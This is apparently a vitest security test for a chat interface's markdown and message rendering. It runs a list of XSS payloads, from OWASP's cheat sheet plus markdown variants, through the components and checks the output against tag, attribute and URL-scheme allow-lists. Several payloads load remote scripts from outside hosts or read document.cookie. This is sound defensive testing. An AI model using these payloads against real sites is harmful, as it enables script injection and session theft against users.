import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { testServices } from '@/tests/browser/element/support/test-services';
import { ThreadItem } from '../../client/wire/thread-item';
import { ChatKitContext } from '../chatkit-context';
import { ItemView } from '../items/item-view';
import { Markdown } from './markdown';

/** From OWASP's XSS filter evasion cheat sheet, and what markdown adds to it. */
const payloads = [
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  '<IMG SRC=JaVaScRiPt:alert(&quot;XSS&quot;)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099">',
  '<IMG SRC="jav\tascript:alert(1);">',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC=java\0script:alert(1)>',
  '<IMG SRC=" &#14; javascript:alert(1);">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=//xss.rocks/.j>',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  '</script><script>alert(1);</script>',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<IMG DYNSRC="javascript:alert(1)">',
  '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
  '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  'Set.constructor`alert\\x28document.domain\\x29`',
  '<BGSOUND SRC="javascript:alert(1);">',
  '<BR SIZE="&{alert(1)}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD4=">',
  '<TABLE BACKGROUND="javascript:alert(1)"><TD BACKGROUND="javascript:alert(1)">',
  '<DIV STYLE="background-image: url(javascript:alert(1))">',
  '<BASE HREF="javascript:alert(1);//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml"></EMBED>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x]( java\\script:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](view-source:javascript:alert(1))',
  '[x](blob:https://x.test/1)',
  '[x](filesystem:https://x.test/1)',
  '[x](tel:+123)',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](https://img.test/a.png"onerror="alert(1))',
  '![" onerror="alert(1)](https://img.test/a.png)',
  '[a](https://x.test "title" onmouseover="alert(1)")',
  '<javascript:alert(1)>',
  '```js"><script>alert(1)</script>\ncode\n```',
  '```"onmouseover="alert(1)\ncode\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '- [ ] <img src=x onerror=alert(1)>',
  'a[^1]\n\n[^1]: <script>alert(1)</script>',
  '$\\href{javascript:alert(1)}{x}$ and $$\\unicode{<img src=x onerror=alert(1)>}$$',
  '\u202e<script>alert(1)</script>',
] as const;

const tags = new Set([
  ...[
    'div',
    'span',
    'p',
    'a',
    'img',
    'em',
    'strong',
    'del',
    'code',
    'pre',
    'button',
    'svg',
    'path',
  ],
  ...[
    'h1',
    'h2',
    'h3',
    'h4',
    'h5',
    'h6',
    'ul',
    'ol',
    'li',
    'input',
    'blockquote',
    'hr',
    'br',
    'sup',
  ],
  ...['table', 'thead', 'tbody', 'tr', 'th', 'td', 'rect', 'circle', 'line', 'details', 'summary'],
  ...['time', 'i', 'b', 'label', 'polyline', 'ellipse', 'figure', 'h3', 'figcaption'],
]);
const entities: Readonly<Record<string, string>> = {
  ...{ '&amp;': '&', '&lt;': '<', '&gt;': '>', '&quot;': '"', '&#x27;': "'" },
};
const urls = new Set(['href', 'src']);

/** What a browser would make of an address in markup; one without a scheme is the page's own. */
const protocolOf = (value: string): string =>
  new URL(
    value.replaceAll(/&(?:amp|lt|gt|quot|#x27);/g, (entity) => entities[entity] ?? entity),
    'https://page.test',
  ).protocol;

/** Fails for an element, an attribute or an address that no answer may bring into the page. */
function expectSafe(drawn: string): void {
  // What React writes for a page's head when it renders to text; in a page it writes none.
  const markup = drawn.replaceAll(/<link rel="preload" [^>]*>/g, '');
  for (const [, tag = '', attributes = ''] of markup.matchAll(
    /<([a-zA-Z0-9]+)((?:[^>"]|"[^"]*")*)>/g,
  )) {
    expect([...tags]).toContain(tag);
    for (const [, name = '', value = ''] of attributes.matchAll(/([^\s="/]+)="([^"]*)"/g)) {
      expect(name).not.toMatch(/^on|^srcdoc$|^formaction$|^action$|^xlink|^background$/i);
      if (name === 'style') expect(value).not.toMatch(/url|expression|javascript/i);
      if (urls.has(name)) expect(protocolOf(value)).toMatch(/^(?:https?|mailto|chatkit-link):$/);
    }
  }
}

const services = testServices({
  api: { url: '/chat', domainKey: 'x' },
  entities: { onClick: () => undefined },
});
const html = (node: React.ReactNode) =>
  renderToStaticMarkup(<ChatKitContext value={services}>{node}</ChatKitContext>);

describe.each(payloads)('the attack %j', (payload) => {
  it('does nothing in markdown', () => {
    expectSafe(html(<Markdown text={payload} />));
    expectSafe(html(<Markdown text={`Before ${payload} after`} domains={['img.test']} />));
  });

  it('does nothing wherever else an answer has words and addresses', () => {
    const url = { type: 'url', title: payload, url: payload, description: payload };
    const entity = {
      type: 'entity',
      id: payload,
      title: payload,
      icon: payload,
      interactive: true,
    };
    const file = { type: 'file', title: payload, filename: payload };
    const annotations = [url, entity, file].map((source) => ({
      type: 'annotation',
      index: 1,
      source,
    }));
    const task = { type: 'custom', title: payload, content: payload, icon: payload };
    const search = { type: 'web_search', title: payload, queries: [payload], sources: [url] };
    const all = [
      { type: 'assistant_message', content: [{ type: 'output_text', text: payload, annotations }] },
      {
        type: 'workflow',
        workflow: { tasks: [task, search], summary: { title: payload, icon: payload } },
      },
      { type: 'generated_image', image: { id: 'x', url: payload } },
      {
        type: 'widget',
        widget: {
          type: 'Card',
          status: { text: payload, favicon: payload },
          children: [
            { type: 'Text', value: payload, color: payload },
            { type: 'Markdown', value: payload },
            { type: 'Image', src: payload, alt: payload },
            { type: 'Icon', name: payload },
            { type: 'Label', value: payload, fieldName: payload },
            { type: 'Input', name: payload, placeholder: payload, defaultValue: payload },
            { type: payload, value: payload },
          ],
        },
      },
    ];
    for (const item of all) {
      const parsed = ThreadItem.parse({ id: 'i', ...item });
      expectSafe(html(<ItemView item={parsed} open={false} progress={null} domains={undefined} />));
    }
  });
});
